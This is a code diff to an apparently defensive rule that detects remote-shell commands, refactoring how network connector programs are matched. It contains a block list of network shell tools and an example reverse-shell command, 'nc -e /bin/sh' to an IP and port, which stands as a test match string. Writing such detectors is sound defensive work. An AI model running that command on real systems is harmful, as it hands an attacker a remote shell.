@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from sandguard.commands.effects import Fetches, Listens, Runs, RunsCode, Sends, StartsShell
 from sandguard.rules.rule import Match, rule
-from sandguard.rules.wording import named
+from sandguard.rules.wording import named, program_name
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
@@ -13,13 +13,14 @@ if TYPE_CHECKING:
     from sandguard.flow.program import Program
 
 NETWORKS = (Fetches, Listens, Sends)
-CONNECTORS = frozenset(("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd"))
+CONNECTORS = ("nc", "ncat", "netcat", "socat", "nc.traditional", "nc.openbsd")
 
 
 @rule(
     technique="T1059.004",
     severity="high",
     effects=(Runs, RunsCode, StartsShell),
+    programs=CONNECTORS,
     is_reversible=False,
     match=(
         "nc -e /bin/sh 192.0.2.1 4444",
@@ -39,11 +40,11 @@ def remote_shell(program: Program) -> Iterator[Match]:
         if not has_connection:
             continue
         for effect in invocation.effects:
-            if isinstance(effect, Runs) and invocation.name.text in CONNECTORS:
+            if isinstance(effect, Runs) and program_name(invocation.name) in CONNECTORS:
                 message = (
                     f"connects {named(effect.arguments[0].value) if effect.arguments else 'a program'} to the network"
                 )
-            elif isinstance(effect, (RunsCode, StartsShell)) and invocation.name.text in CONNECTORS:
+            elif isinstance(effect, (RunsCode, StartsShell)) and program_name(invocation.name) in CONNECTORS:
                 message = "connects a shell to the network"
             else:
                 continue
